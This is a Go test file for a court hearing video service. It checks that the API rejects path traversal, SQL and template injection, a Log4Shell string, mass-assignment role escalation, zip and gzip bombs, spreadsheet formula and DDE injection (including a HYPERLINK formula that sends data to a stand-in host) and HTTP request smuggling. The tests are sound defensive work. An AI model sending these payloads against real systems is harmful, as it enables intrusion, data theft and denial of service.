package signaling_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"avhub/rooms"
	"avhub/rooms/store"
	"avhub/signaling"
)

// Ids that are paths, or anything else that no id is, in every part of every
// address: no file, nobody else's object, no failure.
func TestPathsInIDs(t *testing.T) {
	t.Parallel()
	x := newHouse(t)
	boss := x.browser()
	for pattern := range x.requests() {
		method, route, ok := strings.Cut(pattern, " ")
		if !ok {
			method, route = "GET", pattern
		}
		if !strings.Contains(route, "{") {
			continue
		}
		for _, evil := range []string{
			"..", "%2e%2e", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2favhub.yaml", "..%5c..%5cwin.ini", "%00", "cam-aihui%00.jpg", "%0d%0aSet-Cookie:%20x=y",
			"%ff%fe", "*", "%27%20OR%201=1--", "%7b%7b7*7%7d%7d", "$%7bjndi:ldap://x%7d", strings.Repeat("a", 3000), "%e2%80%ae", "CON", "-1", "0",
		} {
			path := route
			for strings.Contains(path, "{") {
				from, to := strings.Index(path, "{"), strings.Index(path, "}")
				path = path[:from] + evil + path[to+1:]
			}
			a := boss.ask(t, method, path, "{}", "Authorization", "Bearer "+x.boss, "If-Match", "*")
			if a.StatusCode < 300 && !(a.StatusCode == 204 && method == "OPTIONS") && !strings.Contains(a.Header.Get("Content-Type"), "text/html") || a.StatusCode >= 500 {
				t.Errorf("%s %.80s: %d %.200s", method, path, a.StatusCode, a.body)
			}
			if strings.Contains(a.body, "root:") || a.Header.Get("Set-Cookie") != "" {
				t.Errorf("%s %.80s: %.200s", method, path, a.body)
			}
		}
	}
	// Nor does anything get such a name.
	for _, id := range []string{"../x", "a/b", "..", ".", "", "A", "a b", "a_b", "a\n", "中文", strings.Repeat("a", 64), "%2e", "a\u0000"} {
		for path, body := range map[string]fields{
			"/sources": {"id": id}, "/courts": {"id": id, "name": "x", "parent": "heihe"}, "/sites": {"id": id, "court": "heihe", "kind": "courtroom", "name": "x"},
		} {
			raw, err := json.Marshal(body)
			if err != nil {
				t.Fatal(err)
			}
			if a := x.as(t, x.boss, "POST", "/api/v1"+path, string(raw)); a.StatusCode != http.StatusUnprocessableEntity {
				t.Errorf("%s takes %q: %d %s", path, id, a.StatusCode, a.body)
			}
		}
	}
	if strings.Contains(x.log.String(), "panic") {
		t.Error("a handler panicked")
	}
}

// Members that a body has no business to set are refused, not skipped, and set
// nothing.
func TestMassAssignment(t *testing.T) {
	t.Parallel()
	x := newHouse(t)
	clerk := x.users["aihui"]
	for name, c := range map[string]struct{ who, method, path, body string }{
		"a role with the log-in":           {"stranger", "POST", "/api/v1/login", `{"name":"clerk","password":"x","role":"admin"}`},
		"a role with the password":         {"clerk", "POST", "/api/v1/me/password", `{"old":"x","new":"y","roles":[{"role":"admin","court":"heihe"}]}`},
		"another user's token":             {"clerk", "POST", "/api/v1/me/tokens", `{"name":"x","scopes":["watch"],"days":1,"user":"id-admin"}`},
		"a token's secret":                 {"clerk", "POST", "/api/v1/me/tokens", `{"name":"x","scopes":["watch"],"days":1,"token":"avt_x"}`},
		"grants by their other name":       {"admin", "PATCH", "/api/v1/users/" + clerk, `{"grants":[{"role":"admin","court":"heihe"}]}`},
		"a role with large letters":        {"admin", "PATCH", "/api/v1/users/" + clerk, `{"Roles":[{"role":"auditor","court":"aihui"}]}`},
		"a user's id":                      {"admin", "PATCH", "/api/v1/users/" + clerk, `{"id":"id-admin"}`},
		"a password's hash":                {"admin", "PATCH", "/api/v1/users/" + clerk, `{"Password":"$argon2id$x"}`},
		"a second factor":                  {"admin", "PATCH", "/api/v1/users/" + clerk, `{"totp":"","second_factor":false}`},
		"who one is elsewhere":             {"admin", "PATCH", "/api/v1/users/" + clerk, `{"subject":"https://idp|1"}`},
		"that it need not change":          {"admin", "POST", "/api/v1/users", `{"name":"newcomer","full_name":"x","must_change":false}`},
		"a hearing's state":                {"clerk", "POST", "/api/v1/hearings", strings.Replace(x.plan(t, "aihui"), "{", `{"state":"closed",`, 1)},
		"a hearing's version":              {"clerk", "POST", "/api/v1/hearings", strings.Replace(x.plan(t, "aihui"), "{", `{"version":7,`, 1)},
		"a hearing's history":              {"clerk", "POST", "/api/v1/hearings", strings.Replace(x.plan(t, "aihui"), "{", `{"history":[],`, 1)},
		"who gave the command":             {"clerk", "POST", "/api/v1/hearings/" + x.hearings["aihui"].ID + "/commands", `{"kind":"prepare","by":{"user":"id-judge"}}`},
		"when it was given":                {"clerk", "POST", "/api/v1/hearings/" + x.hearings["aihui"].ID + "/commands", `{"kind":"prepare","at":"2020-01-01T00:00:00Z"}`},
		"who entered a case":               {"clerk", "POST", "/api/v1/cases", `{"court":"aihui","number":"（2026）黑1102民初9号","title":"x","created_by":"id-admin"}`},
		"a case's id":                      {"clerk", "PATCH", "/api/v1/cases/" + x.cases["aihui"], `{"id":"` + x.cases["beian"] + `"}`},
		"a link's device":                  {"clerk", "POST", "/api/v1/hearings/" + x.hearings["aihui"].ID + "/links", `{"participant":"x","device":"y"}`},
		"a guest's part":                   {"stranger", "POST", "/api/v1/join", `{"token":"x","part":"presiding_judge"}`},
		"a source of the file":             {"technician", "POST", "/api/v1/sources", `{"id":"new","court":"aihui","origin":"file"}`},
		"an administrator with the set-up": {"stranger", "POST", "/api/v1/setup", `{"token":"x","court_id":"x","court_name":"x","name":"xx","full_name":"x","password":"x","grants":[]}`},
	} {
		a := x.browsers[c.who].ask(t, c.method, c.path, c.body)
		p := a.problem(t)
		if a.StatusCode != http.StatusUnprocessableEntity || !slices.ContainsFunc(p.Errors, func(e signaling.FieldError) bool { return strings.Contains(e.Message, "unexpected") }) {
			t.Errorf("%s: %d %s", name, a.StatusCode, a.body)
		}
	}
	var after store.Account
	x.court.change(func(tx *store.Tx) (err error) { after, err = tx.User(clerk); return err })
	if len(after.Grants) != 1 || after.Grants[0].Role != rooms.Clerk || after.Disabled {
		t.Errorf("%+v", after)
	}
	// Twice the same member: the last one counts for the check as for the change.
	if a := x.browsers["admin"].ask(t, "PATCH", "/api/v1/users/"+clerk, `{"roles":[],"roles":[{"role":"admin","court":"heihe"}]}`); a.StatusCode != http.StatusForbidden {
		t.Errorf("roles twice: %d %s", a.StatusCode, a.body)
	}
}

// plan is a hearing of a court, as it is entered.
func (x *house) plan(t *testing.T, court string) string {
	t.Helper()
	raw, err := json.Marshal(rooms.Plan{Case: x.cases[court], Court: court, Kind: rooms.KindTrial, Title: "x", Start: time.Now().Add(72 * time.Hour), Minutes: 60, Recorded: true})
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// Whatever is sent as a list of hearings is answered in no time and in little
// memory, and enters nothing.
func TestBombsInTheImport(t *testing.T) {
	t.Parallel()
	x := newHouse(t)
	zeros := make([]byte, 4<<20)
	var zipped, zipbomb bytes.Buffer
	g := gzip.NewWriter(&zipped)
	_, _ = g.Write(zeros)
	_ = g.Close()
	z := zip.NewWriter(&zipbomb)
	f, err := z.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.Write(zeros)
	_ = z.Close()
	head := "案号,案由,日期,时间,时长,法庭,类型,公开,审判长,书记员,当事人,外部编号\n"
	day := time.Now().AddDate(0, 0, 3).In(rooms.Shanghai).Format(time.DateOnly)
	most := 1<<20 - 1
	fill := func(unit string) string { return strings.Repeat(unit, (most-len(head))/len(unit)) }
	for name, c := range map[string]struct {
		body     string
		encoding string
	}{
		"a zip bomb (a spreadsheet)":            {body: zipbomb.String()},
		"a gzip bomb as it is":                  {body: zipped.String()},
		"a gzip bomb, named as such":            {body: zipped.String(), encoding: "gzip"},
		"half a million empty lines":            {body: head + fill("\n")},
		"half a million empty cells":            {body: head + fill(",")},
		"one cell of a megabyte":                {body: head + `"` + fill("x")[2:]},
		"quotes that do not close":              {body: head + fill(`"`)},
		"lines of quotes and commas":            {body: head + fill("\",\"\n")},
		"thousands of wrong lines":              {body: head + fill("x,y\n")},
		"thousands of good lines":               {body: head + fill("（2026）黑1102民初1号,x,"+day+",09:00,60,第一法庭,庭审,是,judge,clerk,,\n")},
		"one line of a thousand parties":        {body: head + "（2026）黑1102民初1号,x," + day + ",09:00,60,第一法庭,庭审,是,judge,clerk," + strings.Repeat("原告:赵;", 20000) + ",A\n"},
		"a number of a hundred thousand digits": {body: head + "（2026）黑1102民初" + strings.Repeat("9", 100_000) + "号,x," + day + ",09:00,60,第一法庭,庭审,是,judge,clerk,,A\n"},
		"UTF-16":                                {body: "\xff\xfe" + fill("a\x00")},
		"control characters":                    {body: head + fill("\x00\x1b[2J\x07")},
		"nothing":                               {body: ""},
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		began := time.Now()
		headers := []string{"Content-Type", "text/csv"}
		if c.encoding != "" {
			headers = append(headers, "Content-Encoding", c.encoding)
		}
		a := x.browsers["clerk"].ask(t, "POST", "/api/v1/hearings/import?court=aihui", c.body, headers...)
		took := time.Since(began)
		runtime.ReadMemStats(&after)
		if a.StatusCode >= 500 || took > 10*time.Second {
			t.Errorf("%s: %d after %s", name, a.StatusCode, took)
		}
		if len(a.body) > 4<<20 {
			t.Errorf("%s: an answer of %d bytes", name, len(a.body))
		}
		if used := after.TotalAlloc - before.TotalAlloc; used > 1<<30 { // other tests allocate too
			t.Errorf("%s: %d MB", name, used>>20)
		}
		if a.StatusCode == http.StatusOK {
			if got := into[struct{ Added, Changed int }](t, a); got.Added+got.Changed != 0 {
				t.Errorf("%s: %d were entered", name, got.Added)
			}
		}
	}
	if a := x.browsers["clerk"].ask(t, "POST", "/api/v1/hearings/import?court=aihui", strings.Repeat("x", 1<<20+1), "Content-Type", "text/csv"); a.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("more than a megabyte: %d", a.StatusCode)
	}
	list := into[items[rooms.Hearing]](t, x.browsers["clerk"].ask(t, "GET", "/api/v1/hearings?days=31", ""))
	if len(list.Items) != 1 {
		t.Errorf("%d hearings", len(list.Items))
	}
}

// What a spreadsheet would take for a formula comes out of the export as text,
// whoever has typed it where.
func TestFormulasInTheExport(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "court-1": "court-1", "王": "王", "a=1": "a=1", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"\x00=1": "'\x00=1", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", " ": " ", "2026-03-02T12:00:00Z": "2026-03-02T12:00:00Z",
	} {
		if got := signaling.PlainCell(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
	x := newHouse(t)
	evil := "=HYPERLINK(\"http://elsewhere.example?\"&A1,\"x\")"
	body, err := json.Marshal(map[string]any{"kind": "cancel", "why": evil})
	if err != nil {
		t.Fatal(err)
	}
	plan := into[rooms.Hearing](t, x.browsers["clerk"].ask(t, "POST", "/api/v1/hearings", strings.Replace(x.plan(t, "aihui"), `"title":"x"`, `"title":"@SUM(1+1)*cmd|' /C calc'!A0"`, 1)))
	if a := x.browsers["clerk"].ask(t, "POST", "/api/v1/hearings/"+plan.ID+"/commands", string(body)); a.StatusCode != http.StatusOK {
		t.Fatal(a.body)
	}
	var rows [][]string
	await(t, "it can be found", func() bool {
		a := x.browsers["auditor"].ask(t, "GET", "/api/v1/audit.csv?object="+plan.ID, "")
		rows, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
		return err == nil && len(rows) == 3
	})
	for _, row := range rows[1:] {
		for i, cell := range row {
			if len(row) != len(rows[0]) || cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("%s is %q", rows[0][i], cell)
			}
		}
	}
	if all := fmt.Sprint(rows); !strings.Contains(all, "'"+evil) || !strings.Contains(all, "'@SUM") {
		t.Errorf("it is not there at all: %s", all)
	}
}

// Requests that are none, by hand.
func TestRequestsThatAreNone(t *testing.T) {
	t.Parallel()
	h := newHub(t, push)
	for name, text := range map[string]string{
		"a line end in the path":     "GET /api/v1/hub\r\nX: y HTTP/1.1\r\nHost: localhost\r\n\r\n",
		"two lengths":                "POST /api/v1/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
		"length and chunks":          "POST /api/v1/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"no host":                    "GET /api/v1/hub HTTP/1.1\r\n\r\n",
		"two hosts":                  "GET /api/v1/hub HTTP/1.1\r\nHost: localhost\r\nHost: elsewhere.example\r\n\r\n",
		"another host":               "GET /api/v1/door HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n",
		"another host in the target": "GET http://elsewhere.example/api/v1/door HTTP/1.1\r\nHost: localhost\r\n\r\n",
		"a tunnel":                   "CONNECT /api/v1/hub HTTP/1.1\r\nHost: localhost\r\n\r\n",
		"a path out of the root":     "GET /../../../../etc/passwd HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
		"a header without an end":    "GET / HTTP/1.1\r\nHost: localhost\r\nX: " + strings.Repeat("x", 1<<20),
		"TRACE":                      "TRACE /api/v1/hub HTTP/1.1\r\nHost: localhost\r\nCookie: secret=1\r\n\r\n",
		"nonsense":                   "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	} {
		conn, err := net.Dial("tcp", strings.TrimPrefix(h.url, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
		_, _ = conn.Write([]byte(text))
		got := make([]byte, 4096)
		n, err := conn.Read(got)
		_ = conn.Close()
		answer := string(got[:n])
		if strings.Contains(answer, "secret=1") || strings.Contains(answer, "root:") || n == 0 && strings.Contains(fmt.Sprint(err), "timeout") {
			t.Errorf("%s: %v %.200q", name, err, answer)
		}
		if name != "a path out of the root" && strings.HasPrefix(answer, "HTTP/1.1 200") {
			t.Errorf("%s is answered: %.200q", name, answer)
		}
	}
}
